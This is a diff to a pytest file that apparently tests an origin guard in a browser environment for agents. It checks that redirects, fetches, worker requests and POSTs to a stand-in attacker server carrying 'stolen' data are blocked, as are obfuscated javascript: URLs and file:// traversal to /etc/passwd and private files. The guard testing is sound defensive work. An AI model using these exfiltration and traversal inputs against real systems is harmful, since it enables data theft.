@@ -1,13 +1,18 @@
 """The origin guard: a task's browser reaches its own origins and nothing else, and says what it blocked."""
 from __future__ import annotations
 
+import asyncio
+import threading
+import time
 from collections.abc import Iterator
+from urllib.parse import urlencode
 
 import pytest
 
 from envs.browser import BrowserConfig, BrowserSession
 from envs.env import BrowserEnv
 from envs.guard import OriginPolicy
+from envs.miniwob import MiniWoBTask
 from envs.tasks import UrlTask
 from tests.pages.page_server import PageServer
 
@@ -201,6 +206,190 @@ def test_the_route_pattern_lets_through_only_what_the_policy_allows() -> None:
     assert passed == ["http://127.0.0.1:8023/", "http://127.0.0.1:8023?q=1", "https://shop.example/cart",
                       "https://shop.example:443/", "https://SHOP.example/x", "https://en.wiki.org:8443/w",
                       "https://wiki.org/", "data:text/html,hi", "blob:x", "about:blank"]
-    files = OriginPolicy(allow_files=True).unlisted_urls()
-    assert not files.search("file:///tmp/page.html") and files.search("http://127.0.0.1/")
-    assert not OriginPolicy(domains={"*"}).unlisted_urls().search("https://anything.example/")
+    anything = OriginPolicy(domains={"*"}).unlisted_urls()
+    assert not anything.search("https://anything.example/")
+    # Only `allows` can tell which folder a file:// URL reads (symlinks, `..`), so every one reaches it.
+    assert anything.search("file:///tmp/page.html") and pattern.search("FILE:///tmp/page.html")
+
+
+# ------------------------------------------------------------------ what context.route alone misses
+
+
+@pytest.fixture
+def task_and_attacker() -> Iterator[tuple[PageServer, PageServer]]:
+    """The task's site and an attacker's server, both on 127.0.0.1, each counting what reached it."""
+    site, attacker = PageServer({"/": "<title>Home</title>"}), PageServer({"/": "<title>Attacker</title>"})
+    yield site, attacker
+    site.close()
+    attacker.close()
+
+
+def _redirect(site: PageServer, to: str, status: int = 302) -> str:
+    return f"{site.url}/redirect?{urlencode({'to': to, 'status': status})}"
+
+
+async def test_a_redirect_away_is_blocked_at_its_hop_and_listed_with_the_url_that_redirected(session,
+                                                                                              task_and_attacker):
+    site, attacker = task_and_attacker
+    stolen = f"{attacker.url}/x?stolen=the-password"
+    away = _redirect(site, stolen)
+    site.pages["/"] = f'<title>Home</title><a href="{away}">read more</a>'
+    env = BrowserEnv(session)
+    obs, _ = await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
+
+    obs, _, _, _, info = await env.step(f"goto('{away}')")
+    assert info["blocked_urls"] == [f"{stolen} (redirected from {away})"]
+    assert obs.url == f"{site.url}/" and obs.title == "Home"  # back where it was, not on an error page
+    assert "was blocked" in obs.last_action_error and f"(redirected from {away})" in obs.last_action_error
+
+    obs, _, _, _, info = await env.step(f"click('{_id_of(obs, 'read more')}')")  # a link that redirects away
+    assert info["blocked_urls"] == [f"{stolen} (redirected from {away})"]
+    assert obs.url == f"{site.url}/" and "was blocked" in obs.last_action_error
+    [link_hop] = env.guard.blocked[1:]
+    assert (link_hop.resource_type, link_hop.main_frame) == ("document", True)
+    assert attacker.hits == [] and attacker.posts == []
+
+
+async def test_subresources_redirected_away_reach_nothing(session, task_and_attacker):
+    """fetch, an image and a POST through a 307 (which would carry its body along) all stop at the hop."""
+    site, attacker = task_and_attacker
+    env = BrowserEnv(session)
+    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
+    fetched, image, posted = (f"{attacker.url}/{name}?data=secret" for name in ("fetched", "image", "posted"))
+    outcomes = await session.page.evaluate("""([fetched, image, posted]) => Promise.all([
+        fetch(fetched).then(() => 'fetched', () => 'fetch failed'),
+        new Promise(done => { const img = new Image(); img.onload = () => done('loaded');
+                              img.onerror = () => done('image failed'); img.src = image; }),
+        fetch(posted, {method: 'POST', body: 'card=4111111111111111'}).then(() => 'posted', () => 'post failed'),
+    ])""", [_redirect(site, fetched), _redirect(site, image), _redirect(site, posted, status=307)])
+    assert outcomes == ["fetch failed", "image failed", "post failed"]
+    assert attacker.hits == [] and attacker.posts == []
+    assert sorted(b.describe() for b in env.guard.blocked) == sorted(
+        f"{url} (redirected from {_redirect(site, url, status)})"
+        for url, status in [(fetched, 302), (image, 302), (posted, 307)])
+    assert site.posts == [f"/redirect?{urlencode({'to': posted, 'status': 307})}"]  # the first hop is the site's own
+
+
+async def test_a_chain_of_redirects_is_checked_at_every_hop(session, task_and_attacker):
+    site, attacker = task_and_attacker
+    env = BrowserEnv(session)
+    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
+    last_hop = _redirect(site, f"{attacker.url}/end")
+    obs, _, _, _, info = await env.step(f"goto('{_redirect(site, _redirect(site, last_hop, 307), 301)}')")
+    assert info["blocked_urls"] == [f"{attacker.url}/end (redirected from {last_hop})"]
+    assert attacker.hits == [] and obs.url == f"{site.url}/"
+
+
+async def test_redirects_within_the_allowed_origins_still_work(session, task_and_attacker):
+    site, attacker = task_and_attacker
+    env = BrowserEnv(session, allow_domains=[attacker.url])  # the attacker's server, allowed here
+    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="go"))
+    obs, _, _, _, info = await env.step(f"goto('{_redirect(site, _redirect(site, '/second'))}')")
+    assert obs.url == f"{site.url}/second" and obs.last_action_error is None and info["blocked_urls"] == []
+    obs, _, _, _, info = await env.step(f"goto('{_redirect(site, f'{attacker.url}/allowed')}')")
+    assert obs.url == f"{attacker.url}/allowed" and obs.last_action_error is None and info["blocked_urls"] == []
+    status = await session.page.evaluate("""url => fetch(url, {method: 'POST', body: 'x'}).then(r => r.status)""",
+                                         _redirect(attacker, "/form", status=307))
+    assert status == 200 and attacker.posts[-1] == "/form"  # the 307 carried the POST on; /form answers 303 to /
+
+
+async def test_worker_requests_stay_within_the_allowed_origins(session, task_and_attacker):
+    """A SharedWorker's requests never reach context.route, and a dedicated worker's redirects neither."""
+    site, attacker = task_and_attacker
+    env = BrowserEnv(session)
+    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
+    shared, dedicated = f"{attacker.url}/shared?data=secret", f"{attacker.url}/dedicated?data=secret"
+    outcomes = await session.page.evaluate("""async ([shared, dedicated]) => {
+        const script = code => URL.createObjectURL(new Blob([code], {type: 'text/javascript'}));
+        const fetching = url => `fetch(${JSON.stringify(url)}).then(() => 'reached', () => 'failed')`;
+        const fromShared = new Promise(done => {
+            const reply = `onconnect = e => ${fetching(shared)}.then(r => e.ports[0].postMessage(r))`;
+            const worker = new SharedWorker(script(reply));
+            worker.port.onmessage = e => done(e.data);
+        });
+        const fromDedicated = new Promise(done => {
+            const worker = new Worker(script(`${fetching(dedicated)}.then(r => postMessage(r))`));
+            worker.onmessage = e => done(e.data);
+        });
+        return [await fromShared, await fromDedicated];
+    }""", [shared, _redirect(site, dedicated)])
+    assert outcomes == ["failed", "failed"] and attacker.hits == []
+    assert sorted(b.describe() for b in env.guard.blocked) == [
+        f"{dedicated} (redirected from {_redirect(site, dedicated)})", shared]
+
+
+@pytest.mark.parametrize("url", [" javascript:document.title='ran'", "\tjava\nscript:document.title='ran'",
+                                 "JavaScript:document.title='ran'", "\x00 javascript:document.title='ran' \n"])
+async def test_goto_reads_the_url_as_the_browser_does(session, task_and_attacker, url):
+    site, _ = task_and_attacker
+    env = BrowserEnv(session)
+    await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
+    obs, _, _, _, info = await env.step(f"goto({url!r})")
+    assert obs.title == "Home" and await session.page.title() == "Home"  # the script never ran
+    assert info["blocked_urls"] == ["javascript:document.title='ran'"] and "was blocked" in obs.last_action_error
+    obs, _, _, _, info = await env.step("goto('  /second\\n')")  # and the same reading opens an allowed page
+    assert obs.url == f"{site.url}/second" and obs.last_action_error is None
+
+
+SECRET_FILE_TEXT = "root-secret: do-not-leak-7731"
+
+
+@pytest.fixture
+def task_folder(tmp_path):
+    """A file task's folder (its page, a sibling page, a symlink out of it) next to a private file."""
+    private = tmp_path / "private.txt"
+    private.write_text(SECRET_FILE_TEXT)
+    folder = tmp_path / "task"
+    folder.mkdir()
+    (folder / "sibling.html").write_text("<title>Sibling</title>")
+    (folder / "link.txt").symlink_to(private)
+    (folder / "page.html").write_text("<title>Page</title>")
+    (folder / "framing.html").write_text(f'<title>Framing</title><iframe src="{private.as_uri()}"></iframe>')
+    return folder, private
+
+
+async def test_a_file_task_reads_only_its_own_folder(session, task_folder):
+    folder, private = task_folder
+    env = BrowserEnv(session)
+    obs, _ = await env.reset(UrlTask(id="t", start_url=str(folder / "page.html"), goal="read"))
+    for outside in [private.as_uri(), (folder / "link.txt").as_uri(), f"{folder.as_uri()}/../private.txt",
+                    f"{folder.as_uri()}/%2E%2E/private.txt", "file:///etc/passwd"]:
+        obs, _, _, _, info = await env.step(f"goto({outside!r})")
+        assert obs.title == "Page" and "was blocked" in obs.last_action_error, outside
+        assert len(info["blocked_urls"]) == 1 and SECRET_FILE_TEXT not in str(obs), outside
+    obs, _, _, _, info = await env.step(f"goto('{(folder / 'sibling.html').as_uri()}')")
+    assert obs.title == "Sibling" and obs.last_action_error is None and info["blocked_urls"] == []
+    obs, _, _, _, info = await env.step(f"goto('{(folder / 'framing.html').as_uri()}')")
+    assert obs.title == "Framing" and info["blocked_urls"] == [private.as_uri()] and SECRET_FILE_TEXT not in str(obs)
+
+
+async def test_allow_files_opens_more_of_the_disk(session, task_folder):
+    folder, private = task_folder
+    env = BrowserEnv(session, allow_files=[private])
+    await env.reset(UrlTask(id="t", start_url=str(folder / "sibling.html"), goal="read"))
+    obs, _, _, _, info = await env.step(f"goto('{private.as_uri()}')")
+    assert SECRET_FILE_TEXT in str(obs) and info["blocked_urls"] == []
+    obs, _, _, _, info = await env.step("goto('file:///etc/passwd')")  # only what was allowed
+    assert info["blocked_urls"] == ["file:///etc/passwd"]
+
+
+async def test_a_miniwob_task_reads_its_pages_and_no_other_file(session):
+    env = BrowserEnv(session)
+    obs, info = await env.reset(MiniWoBTask("click-test", seed=1))
+    assert info["goal"] and env.guard.blocked == []  # ../core and ../common load
+    obs, _, _, _, info = await env.step("goto('file:///etc/passwd')")
+    assert info["blocked_urls"] == ["file:///etc/passwd"] and "root:" not in str(obs)
+    assert obs.url == env.task.url
+
+
+async def test_the_proxy_stops_with_its_context(session, task_and_attacker):
+    site, _ = task_and_attacker
+    threads_before = threading.active_count()
+    for _ in range(3):
+        env = BrowserEnv(session)
+        await env.reset(UrlTask(id="t", start_url=f"{site.url}/", goal="stay"))
+        await session.close_context()
+    deadline = time.monotonic() + 5
+    while threading.active_count() > threads_before and time.monotonic() < deadline:
+        await asyncio.sleep(0.05)  # a proxy connection's thread ends once the context's sockets close
+    assert threading.active_count() <= threads_before
